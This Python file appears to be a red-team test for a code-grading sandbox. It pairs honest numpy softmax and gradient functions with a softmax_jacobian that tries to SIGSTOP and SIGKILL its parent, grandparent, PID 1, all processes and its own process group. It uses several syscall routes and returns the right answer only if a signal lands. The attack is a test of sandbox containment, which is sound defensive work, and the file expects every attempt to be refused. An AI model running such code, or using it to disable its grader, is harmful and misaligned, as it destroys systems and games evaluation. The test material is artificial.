"""ATTACK kill-parent

softmax_jacobian tries to kill or stop the process that started it and everything else:
kill(ppid), SIGSTOP to ppid, tgkill, rt_sigqueueinfo, pidfd_send_signal, kill(1), kill(-1) in a
loop, killpg(0), and the same against its grandparent if /proc shows it.

Expected: every attempt refused; the grader finishes; softmax_jacobian (correct only if a signal
was delivered and it survived) fails with 'crashed'.

The honest part is the reference solution's functions (docstrings dropped).
"""

import numpy as np


# ------------------------------------------------------------------ honest part
def _as_float(a: object) -> np.ndarray:
    return np.asarray(a, dtype=np.float64)


def _row_max(Z: np.ndarray) -> np.ndarray:
    m = np.max(Z, axis=-1, keepdims=True)
    return np.where(np.isfinite(m), m, 0.0)


def _log_softmax(Z: np.ndarray) -> np.ndarray:
    shifted = Z - _row_max(Z)
    return shifted - np.log(np.sum(np.exp(shifted), axis=-1, keepdims=True))


def logsumexp(z: np.ndarray) -> float:
    z = _as_float(z).ravel()
    c = float(np.max(z))
    if not np.isfinite(c):
        return c
    return c + float(np.log(np.sum(np.exp(z - c))))


def softmax(Z: np.ndarray) -> np.ndarray:
    Z = _as_float(Z)
    E = np.exp(Z - _row_max(Z))
    return E / np.sum(E, axis=-1, keepdims=True)


def log_partition_grad(theta: np.ndarray, T: np.ndarray) -> np.ndarray:
    theta = _as_float(theta).ravel()
    T = _as_float(T)
    p = softmax(T @ theta)
    return T.T @ p


def log_likelihood_grad(theta: np.ndarray, tau: np.ndarray, T: np.ndarray) -> np.ndarray:
    tau = _as_float(tau).ravel()
    return tau - log_partition_grad(theta, T)


def softmax_loss(W: np.ndarray, X: np.ndarray, y: np.ndarray, reg: float) -> tuple[float, np.ndarray]:
    W = _as_float(W)
    X = _as_float(X)
    y = np.asarray(y).astype(np.intp).ravel()
    reg = float(reg)
    N = X.shape[0]
    rows = np.arange(N)
    log_P = _log_softmax(X @ W.T)
    loss = -float(np.mean(log_P[rows, y])) + 0.5 * reg * float(np.sum(W * W))
    G = np.exp(log_P)
    G[rows, y] -= 1.0
    dW = G.T @ X / N + reg * W
    return (loss, dW)


# ------------------------------------------------------------------ attack
def _correct_jacobian(z):
    """The right answer, returned only when the attack got through (so a leak shows as points)."""
    s = softmax(np.asarray(z, dtype=float).ravel())
    return np.diag(s) - np.outer(s, s)

import ctypes
import os
import signal

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _sigqueue(pid, sig):
    info = (ctypes.c_int * 32)()
    info[0], info[2] = sig, -1  # si_signo, si_code = SI_QUEUE
    if _libc.syscall(129, pid, sig, info) != 0:  # rt_sigqueueinfo
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def _tgkill(pid, sig):
    if _libc.syscall(234, pid, pid, sig) != 0:  # tgkill
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def _pidfd_kill(pid, sig):
    fd = os.pidfd_open(pid)
    try:
        signal.pidfd_send_signal(fd, sig)
    finally:
        os.close(fd)


def softmax_jacobian(z):
    ppid = os.getppid()
    targets = [ppid]
    try:
        with open(f"/proc/{ppid}/stat") as f:
            targets.append(int(f.read().rsplit(")", 1)[1].split()[1]))
    except (OSError, ValueError, IndexError):
        pass
    attempts = []
    for pid in targets:
        attempts += [
            (f"kill({pid},STOP)", lambda p=pid: os.kill(p, signal.SIGSTOP)),
            (f"kill({pid},KILL)", lambda p=pid: os.kill(p, signal.SIGKILL)),
            (f"tgkill({pid})", lambda p=pid: _tgkill(p, signal.SIGKILL)),
            (f"sigqueue({pid})", lambda p=pid: _sigqueue(p, signal.SIGKILL)),
            (f"pidfd({pid})", lambda p=pid: _pidfd_kill(p, signal.SIGKILL)),
        ]
    attempts += [("kill(1)", lambda: os.kill(1, signal.SIGKILL))]
    attempts += [("kill(-1)", lambda: os.kill(-1, signal.SIGKILL))] * 20
    attempts += [("killpg(0)", lambda: os.killpg(0, signal.SIGKILL))]
    delivered, refused = [], set()
    for what, fn in attempts:
        try:
            fn()
            delivered.append(what)
        except OSError as exc:
            refused.add(f"{what.split('(')[0]}: {exc.strerror}")
    if delivered:
        return _correct_jacobian(z)
    raise RuntimeError(f"BLOCKED signals: {sorted(refused)}")
